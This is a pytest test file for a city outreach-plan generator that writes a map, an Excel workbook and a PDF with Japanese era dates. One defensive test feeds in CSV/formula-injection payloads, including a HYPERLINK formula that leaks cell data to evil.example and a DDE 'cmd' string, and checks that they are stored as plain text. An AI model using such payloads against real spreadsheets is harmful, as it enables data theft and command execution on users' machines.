"""The 実施計画書: shared content, the map PNG, the Excel workbook and the PDF, from a hand-made plan."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from urllib.parse import unquote

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook
from PIL import Image

from core import clock
from core.calendar import DayType, day_type
from core.settings import configure, read_settings
from planner import report
from planner.document import PlanDocument, VersionStep, plan_document
from planner.model import Parameters, PlannedSession, PlanResult, Shortage
from planner.plan_map import CITY_EDGE, HEIGHT, VISIT_COLOURS, WIDTH, month_colours, plan_map_png
from planner.report_pdf import plan_report_html, write_plan_pdf
from planner.report_xlsx import write_plan_xlsx
from portal.web.downloads import content_disposition

VENUES = {
    "V1": ("イオンもりの里店", "石川県金沢市もりの里1-70", "commercial", 36.5514, 136.6894, 14),
    "V2": ("三馬公民館", "石川県金沢市久安6-59-1", "community_hall", 36.5421, 136.6346, 9),
    "V3": ("花園公民館", "石川県金沢市今町チ41", "community_hall", 36.6335, 136.7077, 9),
}
PLAN = [  # date, venue; 4/29 is 昭和の日 (a Thursday), 5/3 憲法記念日 (a Monday)
    (dt.date(2027, 4, 4), "V1"),
    (dt.date(2027, 4, 8), "V2"),
    (dt.date(2027, 4, 29), "V3"),
    (dt.date(2027, 5, 3), "V1"),
    (dt.date(2027, 5, 12), "V2"),
]
BACKGROUND = [(36.55 + i * 0.004, 136.62 + j * 0.005) for i in range(20) for j in range(20)]


def make_session(date: dt.date, venue_id: str, *, locked: bool = False) -> PlannedSession:
    name, address, kind, lat, lon, expected = VENUES[venue_id]
    return PlannedSession(
        date=date,
        day_type=day_type(date),
        venue_id=venue_id,
        venue_name=name,
        lat=lat,
        lon=lon,
        start=dt.time(10),
        end=dt.time(17),
        expected_applicants=expected,
        reason=f"{name}の周辺に届く。",
        locked=locked,
        venue_address=address,
        venue_kind=kind,
        staff=5,
    )


@pytest.fixture
def plan() -> PlanResult:
    parameters = Parameters(
        start=dt.date(2027, 4, 1),
        end=dt.date(2027, 5, 31),
        weekday_per_month=2,
        holiday_per_month=2,
        seasonality={4: 0.66, 5: 0.66},
    )
    return PlanResult(
        status="optimal",
        objective=123.456,
        bound=123.456,
        solve_seconds=0.42,
        parameters=parameters,
        sessions=[make_session(date, venue) for date, venue in reversed(PLAN)],  # order must not matter
        quotas={"2027-04": {"weekday": 2, "holiday": 2}, "2027-05": {"weekday": 2, "holiday": 2}},
        shortages=[
            Shortage(
                month="2027-05",
                day_type=DayType.holiday,
                asked=2,
                possible=1,
                open_dates=1,
                message="2027-05 休日: 2 回のところ 1 回しか置けません。",
            )
        ],
        notes=["金沢広域急病センター: 実施時間帯に4時間以上開いていません。"],
    )


# --- 和暦 and the shared content -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        (dt.date(2019, 4, 30), "平成31年4月30日"),
        (dt.date(2019, 5, 1), "令和元年5月1日"),
        (dt.date(2020, 1, 1), "令和2年1月1日"),
        (dt.date(2027, 4, 4), "令和9年4月4日"),
        (dt.date(1989, 1, 7), "昭和64年1月7日"),
        (dt.date(1989, 1, 8), "平成元年1月8日"),
    ],
)
def test_wareki_on_era_boundaries(date, expected):
    assert report.wareki(date) == expected


def test_wareki_month_and_western_date():
    assert report.wareki_month("2019-05") == "令和元年5月"
    assert report.wareki_month("2019-04") == "平成31年4月"
    assert report.seireki(dt.date(2027, 4, 4)) == "2027年4月4日"


def test_session_rows_are_numbered_in_date_order(plan):
    rows = report.session_rows(plan)
    assert [r.number for r in rows] == [1, 2, 3, 4, 5]
    assert [r.date for r in rows] == [date for date, _ in PLAN]
    first = rows[0]
    assert (first.date_text, first.wareki_text, first.weekday, first.day_type) == (
        "2027年4月4日",
        "令和9年4月4日",
        "日",
        "休日",
    )
    assert first.time_text == "10:00–17:00"
    assert first.venue_kind == "商業施設"
    showa_day = rows[2]
    assert (showa_day.weekday, showa_day.holiday_name, showa_day.day_type) == ("木", "昭和の日", "休日")
    assert showa_day.weekday_text == "木・祝（昭和の日）"
    assert rows[1].day_type == "平日" and rows[1].holiday_name == ""


def test_monthly_summary_counts_sessions_against_quotas(plan):
    months, total = report.monthly_summary(plan)
    assert [
        (m.month, m.weekday, m.weekday_quota, m.holiday, m.holiday_quota, m.expected_applicants) for m in months
    ] == [("2027-04", 1, 2, 2, 2, 14 + 9 + 9), ("2027-05", 1, 2, 1, 2, 14 + 9)]
    assert (total.label, total.weekday, total.holiday, total.sessions, total.quota) == ("合計", 2, 3, 5, 8)
    assert total.expected_applicants == sum(VENUES[v][5] for _, v in PLAN)
    assert total.staff_days == 25


def test_parameters_and_result_in_japanese(plan):
    items = dict(report.parameter_items(plan))
    assert items["期間"] == "2027年4月1日～2027年5月31日（令和9年4月1日～令和9年5月31日）"
    assert items["平日の回数/月"] == "2 回"
    assert items["同一会場の最小間隔（日）"] == "14 日"
    assert items["実施時間帯"] == "10:00–17:00"
    assert items["到達半径"] == "商業施設 3 km、その他 1.5 km"
    assert {"休日の回数/月", "班数（1日の最大回数）", "最低実施時間", "集客係数"} <= items.keys()
    results = dict(report.result_items(plan))
    assert results["計画の評価"].startswith("この条件で到達度が最も高い計画")
    assert results["到達度"] == "123.46" and results["上限との差"] == "0.00%"
    assert not {"状態", "reach の値", "目的関数"} & results.keys()  # no solver jargon
    plan.status = "feasible"
    assert dict(report.result_items(plan))["計画の評価"].startswith("時間内に見つかった最良の計画")


# --- the map ---------------------------------------------------------------------------------------------------


def test_map_png_has_the_size_markers_and_background(plan):
    png = plan_map_png(plan, background=BACKGROUND, title="テスト")
    image = Image.open(io.BytesIO(png))
    image.load()
    assert image.format == "PNG" and image.size == (WIDTH, HEIGHT)
    rgb = image.convert("RGB")
    colours = rgb.getcolors(maxcolors=WIDTH * HEIGHT)
    assert len(colours) > 50
    white = sum(count for count, colour in colours if colour == (255, 255, 255))
    assert white < WIDTH * HEIGHT * 0.98
    for hex_colour in month_colours(["2027-04", "2027-05"]).values():  # each month's marker colour is drawn
        target = tuple(int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))
        assert any(count > 20 and max(abs(a - b) for a, b in zip(colour, target)) <= 4 for count, colour in colours)


def test_map_of_an_empty_plan_still_renders(plan):
    plan.sessions = []
    image = Image.open(io.BytesIO(plan_map_png(plan)))
    assert image.size == (WIDTH, HEIGHT)


# --- the workbook ---------------------------------------------------------------------------------------------


def test_xlsx_has_the_five_sheets_and_one_row_per_session(plan):
    workbook = load_workbook(io.BytesIO(write_plan_xlsx(plan, background=BACKGROUND)))
    assert workbook.sheetnames == ["表紙", "実施計画", "月別集計", "地図", "パラメータ"]

    sheet = workbook["実施計画"]
    header = [cell.value for cell in sheet[1]]
    assert header == list(report.SESSION_HEADERS)
    assert sheet.freeze_panes == "B2"
    assert sheet.print_title_rows in ("1:1", "$1:$1")
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    column = {name: i for i, name in enumerate(header)}
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(PLAN)
    expected = [
        (1, dt.date(2027, 4, 4), "日", "休日", "イオンもりの里店", 5, 14),
        (2, dt.date(2027, 4, 8), "木", "平日", "三馬公民館", 5, 9),
        (3, dt.date(2027, 4, 29), "木・祝（昭和の日）", "休日", "花園公民館", 5, 9),
        (4, dt.date(2027, 5, 3), "月・祝（憲法記念日）", "休日", "イオンもりの里店", 5, 14),
        (5, dt.date(2027, 5, 12), "水", "平日", "三馬公民館", 5, 9),
    ]
    got = [
        (
            r[column["回"]],
            r[column["日付"]].date(),
            r[column["曜日"]],
            r[column["平日/休日"]],
            r[column["会場"]],
            r[column["従事者数"]],
            r[column["見込み件数"]],
        )
        for r in rows
    ]
    assert got == expected
    assert rows[0][column["和暦"]] == "令和9年4月4日"
    assert sheet.cell(row=2, column=2).is_date and "年" in sheet.cell(row=2, column=2).number_format
    assert sheet.cell(row=2, column=column["選定理由"] + 1).alignment.wrap_text

    summary = workbook["月別集計"]
    assert [c.value for c in summary[1]] == list(report.MONTHLY_HEADERS)
    months = list(summary.iter_rows(min_row=2, max_row=4, values_only=True))
    assert months[0][:8] == ("2027年4月", "令和9年4月", 1, 2, 2, 2, 3, 4)
    assert months[1][:8] == ("2027年5月", "令和9年5月", 1, 2, 1, 2, 2, 4)
    assert months[2][0] == "合計" and months[2][2:9] == (2, 4, 3, 4, 5, 8, 55)

    assert len(workbook["地図"]._images) == 1
    parameters = [row for row in workbook["パラメータ"].iter_rows(values_only=True) if any(row)]
    labels = {row[0] for row in parameters}
    assert {"期間", "平日の回数/月", "計画の評価", "到達度", "上限との差", "回数が不足する月", "備考"} <= labels
    values = {row[1] for row in parameters}
    assert "2027-05 休日: 2 回のところ 1 回しか置けません。" in values


def test_xlsx_writes_a_formula_like_venue_name_as_text(plan):
    """A venue named like a formula (the importer takes the protective ' off) must not run when plan.xlsx opens."""
    from tests.core.test_spreadsheet import formulas_in

    attack = '=HYPERLINK("http://evil.example/?leak="&B2,"会館")'
    plan.sessions[0] = replace(plan.sessions[0], venue_name=attack, reason="=1+1", venue_address="@SUM(A1)")
    plan.notes.append("-2+3+cmd|' /C calc'!A0")

    data = write_plan_xlsx(plan, background=BACKGROUND)

    assert formulas_in(data) == []
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["実施計画"]
    column = {cell.value: cell.column for cell in sheet[1]}
    names = [sheet.cell(row=r, column=column["会場"]) for r in range(2, sheet.max_row + 1)]
    shown = next(cell for cell in names if cell.value == attack)  # the name exactly as written, no ' in front
    assert shown.data_type == "s" and shown.quotePrefix
    notes = [row[1] for row in workbook["パラメータ"].iter_rows(values_only=True)]
    assert "-2+3+cmd|' /C calc'!A0" in notes


# --- the PDF -------------------------------------------------------------------------------------------------


def test_report_html_lists_every_session_and_escapes_names(plan):
    plan.sessions.append(replace(make_session(dt.date(2027, 5, 20), "V3"), venue_name="<b>会場</b>"))
    soup = BeautifulSoup(plan_report_html(plan), "html.parser")
    body_rows = soup.select("table.sessions tbody tr")
    assert len(body_rows) == len(PLAN) + 1
    assert [th.get_text() for th in soup.select("table.sessions thead th")][:3] == ["回", "日付", "曜日"]
    assert soup.find("b") is None and "<b>会場</b>" in body_rows[-1].get_text()
    assert soup.select_one("section.map img")["src"].startswith("data:image/png;base64,")


@pytest.fixture
def pdf(plan, tmp_path) -> Path:
    data = write_plan_pdf(plan, background=BACKGROUND, title="金沢市 実施計画書")
    assert data.startswith(b"%PDF")
    path = tmp_path / "plan.pdf"
    path.write_bytes(data)
    return path


def _poppler(tool: str) -> str:
    found = shutil.which(tool)
    assert found, f"{tool} is missing: scripts/check-system-deps.sh installs poppler-utils"
    return found


def test_pdf_text_has_venues_headers_and_wareki(pdf):
    text = subprocess.run([_poppler("pdftotext"), str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    for name, *_ in VENUES.values():
        assert name in text
    for header in (
        "実施計画",
        "日付",
        "曜日",
        "平日/休日",
        "会場",
        "所在地",
        "実施時間",
        "従事者数",
        "見込み件数",
        "選定理由",
        "月別集計",
        "計画の条件",
        "回数が不足する月",
        "備考",
    ):
        assert header in text
    assert "令和9年4月4日" in text and "令和9年5月12日" in text
    assert "昭和の日" in text
    assert "2027-05 休日: 2 回のところ 1 回しか置けません。" in text


def test_pdf_pages_are_a4(pdf):
    info = subprocess.run(
        [_poppler("pdfinfo"), "-f", "1", "-l", "99", "-box", str(pdf)], capture_output=True, text=True, check=True
    ).stdout
    boxes = [line.split(":", 1)[1].split() for line in info.splitlines() if "MediaBox" in line]
    assert len(boxes) >= 4  # cover, sessions, monthly summary, map, parameters
    for box in boxes:
        width, height = float(box[2]) - float(box[0]), float(box[3]) - float(box[1])
        assert sorted((round(width), round(height))) == [595, 842]


# --- the cover: a document the city files ----------------------------------------------------------------------

TOWNS = [  # named town points around the venues: 3 towns, one with lot points that take the town's name
    *[(36.5514 + i * 0.002, 136.6894, "もりの里一丁目") for i in range(3)],
    *[(36.5421, 136.6346 + i * 0.002, "久安六丁目") for i in range(3)],
    (36.70, 136.80, "遠い町"),  # 15 km away: no booth reaches it
]
SUBMITTED = dt.datetime(2027, 2, 1, 1, 30, tzinfo=dt.UTC)  # 10:30 in Japan
DECIDED = dt.datetime(2027, 2, 10, 6, 0, tzinfo=dt.UTC)


def approved_document() -> PlanDocument:
    return PlanDocument(
        issued=dt.date(2027, 2, 12),
        plan_title="令和9年度 マイナンバーカード出張申請受付 実施計画",
        addressee="金沢市長 宛",
        contractor="株式会社北陸アウトリーチ",
        version=2,
        state="approved",
        history=(
            VersionStep(
                1,
                "returned",
                submitted_at=SUBMITTED,
                submitted_by="山田 花子",
                decided_at=SUBMITTED,
                decided_by="金沢 太郎",
                comment="5月の会場を見直してください",
            ),
            VersionStep(
                2,
                "approved",
                submitted_at=SUBMITTED,
                submitted_by="山田 花子",
                decided_at=DECIDED,
                decided_by="金沢 太郎",
            ),
        ),
    )


def test_pdf_cover_has_addressee_contractor_title_period_version_review_and_reach(plan, tmp_path):
    path = tmp_path / "plan.pdf"
    path.write_bytes(write_plan_pdf(plan, background=TOWNS, document=approved_document()))
    cover = subprocess.run(
        [_poppler("pdftotext"), "-f", "1", "-l", "1", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    for text in (
        "金沢市長 宛",
        "株式会社北陸アウトリーチ",
        "令和9年2月12日（2027年2月12日）",  # the date of the document
        "2027年4月～2027年5月 実施計画書 第2版（承認済み）",
        "令和9年度 マイナンバーカード出張申請受付 実施計画",
        "令和9年4月1日～令和9年5月31日（2027年4月1日～2027年5月31日）",
        "第2版（承認済み）",
        "差し戻し",
        "5月の会場を見直してください",
        "令和9年2月1日（2027年2月1日） 10:30 山田 花子",
        "承認 令和9年2月10日（2027年2月10日） 15:00 金沢 太郎",
        "5 回（平日 2 回・休日 3 回）",
        "到達度 123.5 は",
        "市内 3 の町のうち 2 の町",
    ):
        assert text in cover.replace("\n", ""), text
    for jargon in ("最適", "目的関数", "reach", "ギャップ"):
        assert jargon not in cover, jargon
    info = subprocess.run([_poppler("pdfinfo"), str(path)], capture_output=True, text=True, check=True).stdout
    assert "2027年4月～2027年5月 実施計画書 第2版（承認済み）" in info  # <title> = the heading


def test_cover_of_a_plan_outside_the_review_takes_the_settings(plan, monkeypatch):
    monkeypatch.setenv("PLAN_ADDRESSEE", "金沢市長 宛")
    monkeypatch.setenv("CONTRACTOR_NAME", "株式会社北陸アウトリーチ")
    configure(read_settings())
    try:
        document = plan_document()
    finally:
        configure(None)
    assert (document.addressee, document.contractor, document.version_label) == (
        "金沢市長 宛",
        "株式会社北陸アウトリーチ",
        "案",
    )
    assert document.issued == clock.today()
    cover = BeautifulSoup(plan_report_html(plan, document=document), "html.parser").select_one(".cover")
    assert "金沢市長 宛" in cover.get_text() and "株式会社北陸アウトリーチ" in cover.get_text()


def test_the_plans_own_title_is_not_repeated_under_the_heading():
    start, end = dt.date(2027, 4, 1), dt.date(2028, 3, 31)
    assert PlanDocument(issued=start, plan_title="2027年度 実施計画").subtitle(start, end) == ""
    assert PlanDocument(issued=start, plan_title="出張申請受付").subtitle(start, end) == "出張申請受付"


def test_reach_is_one_plain_sentence(plan):
    text = report.reach_sentence(plan, (2, 3))
    assert text.count("。") == 1 and text.endswith("。")
    assert "到達度 123.5" in text and "これより高い計画はありません" in text and "3 の町のうち 2 の町、67%" in text
    plan.status, plan.bound = "feasible", plan.objective * 1.05
    assert re.search(r"考えられる最高の値との差は \d+\.\d\d% 以内です。$", report.reach_sentence(plan))


def test_towns_reached_counts_towns_not_points(plan):
    assert report.towns_reached(plan, report.town_points(TOWNS)) == (2, 3)
    visits = report.point_visits(plan, report.town_points(TOWNS))
    assert visits[:3] == [2, 2, 2] and visits[-1] == 0  # イオンもりの里店 twice; nothing reaches 遠い町


@pytest.mark.parametrize(
    ("start", "end", "version", "state", "name", "ascii_name"),
    [
        (
            dt.date(2027, 4, 1),
            dt.date(2028, 3, 31),
            2,
            "approved",
            "実施計画-2027年度-第2版-承認済み.pdf",
            "plan-FY2027-v2-approved.pdf",
        ),
        (
            dt.date(2027, 4, 1),
            dt.date(2028, 3, 31),
            3,
            "submitted",
            "実施計画-2027年度-第3版-提出済み.pdf",
            "plan-FY2027-v3-submitted.pdf",
        ),
        (
            dt.date(2027, 4, 1),
            dt.date(2027, 9, 30),
            1,
            "draft",
            "実施計画-2027年4月-2027年9月-第1版-案.pdf",
            "plan-202704-202709-v1-draft.pdf",
        ),
        (dt.date(2027, 4, 1), dt.date(2028, 3, 31), None, "", "実施計画-2027年度-案.pdf", "plan-FY2027-draft.pdf"),
    ],
)
def test_file_names_carry_plan_version_and_state(start, end, version, state, name, ascii_name):
    document = PlanDocument(issued=dt.date(2027, 2, 1), version=version, state=state)
    assert document.file_name(start, end, "pdf") == name
    assert document.ascii_file_name(start, end, "pdf") == ascii_name
    header = content_disposition(name, ascii_name, inline=True)
    assert header.startswith(f"inline; filename=\"{ascii_name}\"; filename*=UTF-8''")
    assert unquote(header.split("''", 1)[1]) == name
    assert header.isascii()


def test_xlsx_cover_sheet_says_what_the_pdf_cover_says(plan):
    workbook = load_workbook(io.BytesIO(write_plan_xlsx(plan, background=TOWNS, document=approved_document())))
    assert workbook.sheetnames[0] == "表紙"
    assert workbook.properties.title == "2027年4月～2027年5月 実施計画書 第2版（承認済み）"
    cells = [str(v) for row in workbook["表紙"].iter_rows(values_only=True) for v in row if v is not None]
    for text in (
        "金沢市長 宛",
        "株式会社北陸アウトリーチ",
        "令和9年2月12日（2027年2月12日）",
        "2027年4月～2027年5月 実施計画書 第2版（承認済み）",
        "令和9年4月1日～令和9年5月31日（2027年4月1日～2027年5月31日）",
        "第2版（承認済み）",
        "承認 令和9年2月10日（2027年2月10日） 15:00 金沢 太郎",
        "5月の会場を見直してください",
    ):
        assert text in cells, text
    assert any(c.startswith("到達度 123.5 は") for c in cells)


def test_map_draws_town_areas_shaded_by_reach_and_the_city_edge(plan):
    rgb = Image.open(io.BytesIO(plan_map_png(plan, background=TOWNS))).convert("RGB")
    colours = {colour: count for count, colour in rgb.getcolors(maxcolors=WIDTH * HEIGHT)}
    reached = VISIT_COLOURS[1]  # 1–2 sessions reach もりの里 and 久安
    assert colours.get(reached, 0) > 5000  # whole town areas, not dots

    def greys(colours: dict) -> int:  # the city's edge, anti-aliased
        return sum(n for c, n in colours.items() if max(abs(v - CITY_EDGE[0]) for v in c) <= 30)

    plain = Image.open(io.BytesIO(plan_map_png(plan))).convert("RGB")
    assert greys(colours) > greys({c: n for n, c in plain.getcolors(maxcolors=WIDTH * HEIGHT)}) + 1000
